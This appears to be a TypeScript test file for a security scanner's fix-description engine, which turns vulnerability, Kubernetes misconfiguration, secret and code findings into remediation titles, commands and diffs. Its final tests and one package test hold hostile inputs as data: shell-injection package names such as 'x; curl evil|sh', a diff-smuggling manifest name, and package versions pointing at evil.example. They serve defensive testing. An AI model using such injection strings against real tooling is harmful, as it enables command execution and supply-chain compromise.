import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { parse } from "yaml";
import { fixUnitOf } from "@/lib/engine/fix-units";
import { describeFix } from "@/lib/engine/fix-units/describe";
import type { FixMember } from "@/lib/engine/fix-units/member";
import type { FixUnitFacts } from "@/lib/engine/fix-units/unit";
import fields from "@/packs/fixes/workload-fields.json";

const image = { kind: "image" as const, key: "registry.example/shop/api" };
const workload = { kind: "workload" as const, key: "prod/shop/Deployment/payments-api" };
let next = 0;
const member = (facts: FixUnitFacts, over: Partial<FixMember> = {}): FixMember => ({
  id: `finding-${String(next++).padStart(4, "0")}`,
  facts,
  severity: "high",
  label: "CVE-2024-1",
  installedVersion: null,
  fixedVersions: [],
  noFix: false,
  cwes: [],
  advice: null,
  line: null,
  quote: null,
  ...over,
});
const vulnerable = (
  type: string,
  name: string,
  installed: string,
  fixed: string[],
  over: Partial<FixMember> = {},
  manifest: string | null = null,
) =>
  member(
    { kind: "vulnerability", asset: image, package: { type, namespace: null, name }, manifest },
    { installedVersion: installed, fixedVersions: fixed, ...over },
  );
const failed = (
  checkId: string,
  over: Partial<FixMember> = {},
  asset: { kind: "workload" | "repository"; key: string } = workload,
) =>
  member(
    { kind: "misconfiguration", asset, checkId, checkTitle: null, resource: asset.key },
    { label: checkId, ...over },
  );
const fix = (...members: FixMember[]) => describeFix(fixUnitOf(members[0]!.facts), members);

describe("system packages", () => {
  const many = () => [
    vulnerable("deb", "zlib1g", "1.2-1", ["1.2-2"], { severity: "low" }),
    vulnerable("deb", "openssl", "3.0.1-1", ["3.0.1-3"], { severity: "critical" }),
    vulnerable("deb", "openssl", "3.0.1-1", ["3.0.1-2"]),
    vulnerable("deb", "perl", "5.36-1", [], { label: "CVE-2023-9" }),
  ];

  test("of an image that others publish say to move to a newer release, and to rebuild nothing", () => {
    const published = (key: string) => {
      const given = vulnerable("deb", "openssl", "3.0.1-1", ["3.0.1-3"]);
      return fix({ ...given, facts: { ...given.facts, asset: { kind: "image", key } } });
    };
    const official = published("docker.io/library/eclipse-temurin");
    expect(official.title).toBe("Move to a newer eclipse-temurin that fixes openssl");
    expect(official.text).toContain("published by Docker Official Images: nobody here rebuilds it");
    expect(official.text).toContain("openssl 3.0.1-1 → 3.0.1-3");
    expect(official.commands).toEqual([]);
    expect(published("registry.k8s.io/coredns/coredns").text).toContain("published by the Kubernetes project");
    // A name without a registry is read as one of Docker Hub's library, and may be anybody's.
    expect(published("docker.io/library/our-own-app").title).toBe("Upgrade openssl in our-own-app");
  });

  test("are one rebuild whose title names the worst package", () => {
    const described = fix(...many());
    expect(described.title).toBe("Upgrade openssl and 1 other package in shop/api");
    expect(described.text).toContain("openssl 3.0.1-1 → 3.0.1-3");
    expect(described.commands).toEqual([
      "RUN apt-get update && apt-get install -y --only-upgrade openssl zlib1g && rm -rf /var/lib/apt/lists/*",
    ]);
  });

  // A list sorted by score must not name the first of equally severe packages over the one that was scored.
  test.each([
    ["of the finding that sets the score", "zlib1g"],
    ["with the worst severity where that one has no fix", "perl"],
  ])("are named by the package %s", (_, scored) => {
    const members = many();
    const worst = members.find(({ facts }) => facts.kind === "vulnerability" && facts.package.name === scored);
    const named = (given: FixMember[]) => describeFix(fixUnitOf(given[0]!.facts), given, worst?.id).title;
    const name = scored === "perl" ? "openssl" : scored;
    expect(named(members)).toBe(`Upgrade ${name} and 1 other package in shop/api`);
    expect(named(members.toReversed())).toBe(named(members));
  });

  test("say how many versions are not listed", () => {
    const packages = Array.from({ length: 23 }, (_, n) => vulnerable("deb", `lib${n}`, "1-1", ["1-2"]));
    expect(fix(...packages).text).toContain(" and 3 more.");
  });

  test("say what the rebuild leaves", () => {
    expect(fix(...many())).toMatchObject({
      closes: 3,
      leaves: 1,
      leavesText: "No report states a fixed version for CVE-2023-9.",
    });
  });

  test("without any fix are not called available", () => {
    const described = fix(vulnerable("apk", "busybox", "1.36.0-r0", []));
    expect(described).toMatchObject({ available: false, commands: [], closes: 0, leaves: 1 });
    expect(described.title).toBe("No report states a fix for busybox in shop/api");
  });

  test("are said to have no fix only where a tool says so of each", () => {
    const none = (...said: boolean[]) =>
      fix(...said.map((noFix) => vulnerable("apk", "busybox", "1.36.0-r0", [], { noFix }))).title;
    expect(none(true, true)).toBe("No fix is published for busybox in shop/api");
    expect(none(true, false)).toBe("No report states a fix for busybox in shop/api");
    expect(fix(vulnerable("npm", "x", "1.0.0", [], { noFix: true })).title).toBe(
      "No fix is published for x in shop/api",
    );
  });

  test("a package named by an attacker never reaches the shell", () => {
    const described = fix(vulnerable("deb", "x; curl evil|sh", "1", ["2"]), vulnerable("deb", "$(id)", "1", ["2"]));
    expect(described.commands).toEqual([]);
  });
});

describe("a language package", () => {
  test("goes to the lowest version that closes all, by the command of its ecosystem", () => {
    const members = [
      vulnerable("npm", "lodash", "4.17.4", ["4.17.5"], {}, "web/package-lock.json"),
      vulnerable("npm", "lodash", "4.17.4", ["4.17.21"], {}, "web/package-lock.json"),
    ];
    expect(fix(...members)).toMatchObject({
      title: "Upgrade lodash to 4.17.21 in web/package-lock.json",
      commands: ["npm install lodash@4.17.21"],
      closes: 2,
      leaves: 0,
      locus: "web/package-lock.json",
    });
  });

  test("says when the upgrade is a new major version and when versions cannot be compared", () => {
    expect(fix(vulnerable("npm", "x", "1.9.0", ["2.0.0"])).text).toContain("new major version");
    expect(fix(vulnerable("bitnami", "x", "a", ["b-1", "b-2"])).text).toContain("latest of the fixed versions stated");
  });

  test("is a diff where one line of the manifest says it", () => {
    const described = fix(vulnerable("pypi", "django", "3.2.1", ["3.2.25"], { line: 7 }, "api/requirements.txt"));
    expect(described.diff).toBe(
      "--- a/api/requirements.txt\n+++ b/api/requirements.txt\n@@ -7 +7 @@\n-django==3.2.1\n+django==3.2.25\n",
    );
  });

  test("Go's standard library is upgraded with the toolchain and by no command", () => {
    const described = fix(vulnerable("golang", "stdlib", "1.21.0", ["1.21.5"]));
    expect(described.commands).toEqual([]);
    expect(described.title).toBe("Upgrade the Go standard library to 1.21.5 in shop/api");
    expect(described.text).toContain("build with that version of Go");
    expect(described.verify).toContain("go version");
  });

  // What says "read its notes" must not be called ready to apply.
  test("is sure of itself unless the version is a new major one", () => {
    expect(fix(vulnerable("npm", "x", "1.9.0", ["1.9.1"])).confidence?.level).toBe("high");
    expect(fix(vulnerable("npm", "x", "1.9.0", ["2.0.0"])).confidence?.level).toBe("medium");
  });
});

describe("a workload's field", () => {
  test("names the worst of what its checks say and shows where the change goes", () => {
    const described = fix(failed("container-runs-as-root", { severity: "medium" }), failed("container-root-uid"));
    expect(described.title).toBe("payments-api runs as root");
    expect(described.diff).toContain(
      "+          securityContext:\n+            runAsNonRoot: true\n+            runAsUser: 10001",
    );
    expect(described.diff).toContain(" kind: Deployment\n metadata:\n   name: payments-api");
    expect(described.text).toContain("of the Deployment payments-api in cluster prod,");
    expect(described).toMatchObject({ closes: 2, leaves: 0 });
    expect(described.verify).toContain("jsonpath='{.spec.template.spec.containers[*].securityContext.runAsUser}'");
  });

  test.each([
    ["Pod", "{.spec.hostPID}"],
    ["DaemonSet", "{.spec.template.spec.hostPID}"],
  ])("of a %s is found at %s", (kind, path) => {
    const asset = { kind: "workload" as const, key: `prod/shop/${kind}/agent` };
    expect(fix(failed("host-pid-namespace", {}, asset)).verify).toContain(path);
  });

  test("of the pod is a command, and of containers none, since their names are not known", () => {
    expect(fix(failed("host-pid-namespace")).commands).toEqual([
      'kubectl -n shop patch deployment payments-api --patch \'{"spec":{"template":{"spec":{"hostPID":false}}}}\'',
    ]);
    const { commands, diff, text } = fix(failed("privileged-container"));
    expect([commands, diff]).toEqual([[], expect.not.stringContaining("name: CONTAINER")]);
    // Whether a patch is offered is known where the objects are: the risk's page says it, and only where none is.
    expect(text).not.toContain("command");
    const unplaced = fix(failed("host-pid-namespace", {}, { kind: "repository", key: "api" }));
    expect(JSON.stringify(unplaced)).not.toContain("NAMESPACE");
    expect(unplaced.commands).toEqual([]);
  });

  // "Set privileged" alone reads as the opposite of the fix.
  test.each([
    ["privileged-container", "Set securityContext.privileged: false in every container of the Deployment"],
    [
      "container-root-uid",
      "Set securityContext.runAsNonRoot: true and securityContext.runAsUser: 10001 in every container",
    ],
    ["capabilities-added", 'Set securityContext.capabilities.drop: ["ALL"] in every container and remove'],
    ["default-serviceaccount-used", "Set serviceAccountName (its value is yours to choose) in the pod template"],
  ])("of %s is told with its value", (check, words) => {
    expect(fix(failed(check)).text).toContain(words);
  });

  test("has no command where something must be removed", () => {
    const described = fix(failed("container-socket-mounted"));
    expect(described).toMatchObject({ commands: [], diff: null });
    expect(described.text).toContain("Remove volumes.hostPath from the pod template of the Deployment payments-api");
  });

  // The added lines are what people copy: with their context they must be the YAML that they claim to be.
  test.each(Object.entries(fields))("%s: the patched manifest parses and holds exactly the change", (_name, field) => {
    for (const kind of ["Deployment", "Pod", "CronJob"]) {
      const asset = { kind: "workload" as const, key: `prod/shop/${kind}/x` };
      const { diff } = fix(failed(Object.keys(field.checks)[0]!, {}, asset));
      if (Object.keys(field.set).length === 0) {
        expect(diff).toBeNull();
        continue;
      }
      const [, , counts = "", ...lines] = diff!.trimEnd().split("\n");
      const manifest = parse(lines.map((line) => line.slice(1)).join("\n"));
      const template =
        kind === "CronJob"
          ? manifest.spec.jobTemplate.spec.template
          : kind === "Pod"
            ? manifest
            : manifest.spec.template;
      const { name: _container, ...container } = template.spec.containers?.[0] ?? {};
      expect(field.scope === "pod" ? template.spec : container).toEqual(field.set);
      const context = lines.filter((line) => line.startsWith(" ")).length;
      expect(counts).toContain(`@@ -1,${context} +1,${lines.length} @@`);
    }
  });
});

describe("several faults of one pod template", () => {
  const described = fix(
    failed("host-pid-namespace", { severity: "medium" }),
    failed("privileged-container", { severity: "high" }),
    failed("container-root-uid", { severity: "medium" }),
    failed("container-runs-as-root", { severity: "low" }),
  );

  test("are one change that names the worst and says how many others there are", () => {
    expect(described.title).toBe("payments-api runs privileged, and 2 other faults in its manifest");
    expect(described).toMatchObject({ closes: 4, leaves: 0 });
    expect(described.text).toMatch(
      /^Change the Deployment payments-api in cluster prod, .*: set securityContext\.privileged: false in every container; set hostPID: false in the pod template; set /,
    );
    expect(described.confidence.level).toBe("medium");
    expect(fix(failed("privileged-container"), failed("host-pid-namespace")).title).toContain("and 1 other fault in");
  });

  test("have one diff, which is the YAML of all, and no command that makes only some of it", () => {
    const [, , counts = "", ...lines] = described.diff!.trimEnd().split("\n");
    const { spec } = parse(lines.map((line) => line.slice(1)).join("\n")).spec.template;
    expect(spec).toMatchObject({
      hostPID: false,
      containers: [{ securityContext: { privileged: false, runAsNonRoot: true, runAsUser: 10001 } }],
    });
    expect(counts).toContain(`+1,${lines.length} @@`);
    expect(described.commands).toEqual([]);
    const ofPod = fix(failed("host-pid-namespace"), failed("host-network-namespace"));
    expect(ofPod.commands).toEqual([expect.stringMatching(/"hostPID":false.*"hostNetwork":false/)]);
  });

  test("hold what each of them sets, whichever come together", () => {
    const all = Object.entries(fields).filter(([, field]) => Object.keys(field.set).length > 0);
    fc.assert(
      fc.property(fc.subarray(all, { minLength: 2 }), (some) => {
        const { diff } = fix(...some.map(([, field]) => failed(Object.keys(field.checks)[0]!)));
        const lines = diff!.trimEnd().split("\n").slice(3);
        const { spec } = parse(lines.map((line) => line.slice(1)).join("\n")).spec.template;
        const { name: _container, ...container } = spec.containers?.[0] ?? {};
        for (const [, field] of some) expect(field.scope === "pod" ? spec : container).toMatchObject(field.set);
      }),
    );
  });
});

describe("other changes", () => {
  test("a secret is rotated before it is removed", () => {
    const secret = member({ kind: "secret", asset: image, secretKey: "k", ruleTitle: "AWS key", path: "/app/.env" });
    const { text } = fix(secret);
    expect(text.indexOf("Issue a new credential")).toBeLessThan(text.indexOf("Take it out of /app/.env"));
  });

  test("code names every line", () => {
    const asset = { kind: "repository" as const, key: "github.com/shop/api" };
    const weak = (line: number) =>
      member({ kind: "code", asset, rule: "bandit:B101", ruleTitle: null, path: "a.py" }, { line, advice: "Do not." });
    expect(fix(weak(9), weak(3))).toMatchObject({ text: "Change a.py at lines 3 and 9. Do not.", locus: "a.py:3" });
  });

  test("code whose advice is its title is not told it again, and the report is not said to advise", () => {
    const asset = { kind: "repository" as const, key: "github.com/shop/api" };
    const ruleTitle = "Use of eval detected";
    const weak = (advice: string) =>
      fix(member({ kind: "code", asset, rule: "semgrep:eval", ruleTitle, path: "a.js" }, { line: 3, advice }));
    expect(weak("Use of eval detected.")).toMatchObject({
      text: "Change a.js at line 3.",
      confidence: { reason: "The report says what is wrong and not how to change it: the change is yours to write." },
    });
    expect(weak("Use of eval detected. Parse it with JSON.parse.").text).toBe(
      "Change a.js at line 3. Parse it with JSON.parse.",
    );
  });

  test("a Dockerfile without a user gets one", () => {
    const asset = { kind: "repository" as const, key: "Dockerfile" };
    expect(fix(failed("dockerfile-root-user", { line: 12 }, asset)).diff).toContain(
      "@@ -12,0 +12,1 @@\n+USER 10001:10001",
    );
  });
});

test("the order of members changes nothing", () => {
  const members = [
    vulnerable("deb", "a", "1", ["2"]),
    vulnerable("deb", "b", "1", ["3"], { severity: "critical" }),
    vulnerable("deb", "b", "2", ["3"]),
    vulnerable("deb", "c", "1", []),
  ];
  fc.assert(
    fc.property(fc.shuffledSubarray(members, { minLength: members.length }), (shuffled) => {
      expect(describeFix(fixUnitOf(members[0]!.facts), shuffled)).toEqual(fix(...members));
    }),
  );
});

// A report is written by whoever may send one; what is made of it is applied and pasted by people who trust us.
describe("names that a report gives", () => {
  const EVIL =
    "requirements.txt\n--- /dev/null\n+++ b/.github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n--- a/requirements.txt";

  test("begin no second file in a diff", () => {
    const named = (manifest: string) =>
      fix(vulnerable("pypi", "jinja2", "3.1.2", ["3.1.4"], { line: 3 }, manifest)).diff;
    expect(named("requirements.txt")).toContain("+jinja2==3.1.4");
    expect(named(`${EVIL}/requirements.txt`)).toBeNull();
    const version = fix(vulnerable("pypi", "jinja2", "3.1.2\n+evil==1", ["3.1.4"], {}, "requirements.txt"));
    expect(version.diff).toBeNull();
    for (const broken of ["\r", "\u2028", "\u0085"]) expect(named(`a${broken}/requirements.txt`)).toBeNull();
  });

  test("are no address or folder for a package manager to fetch code from", () => {
    const commands = (type: string, name: string, version: string) =>
      fix(vulnerable(type, name, "1.0.0", [version], {}, "package-lock.json")).commands;
    expect(commands("npm", "@shop/ui", "1.2.0")).toEqual(["npm install @shop/ui@1.2.0"]);
    expect(commands("npm", "ui", "https://evil.example/x.tgz")).toEqual([]);
    expect(commands("npm", "ui", "npm:evil@1.2.0")).toEqual([]);
    expect(commands("npm", "evil/ui", "1.2.0")).toEqual([]);
    expect(commands("pypi", "git+https://evil.example/x", "1.2.0")).toEqual([]);
  });

  test("stand in no command that tells whether it worked", () => {
    const described = fix(
      failed("host-pid-namespace", {}, { kind: "workload", key: "prod/shop/Deployment/api; curl evil" }),
    );
    expect(described.verify).not.toContain("curl");
  });
});
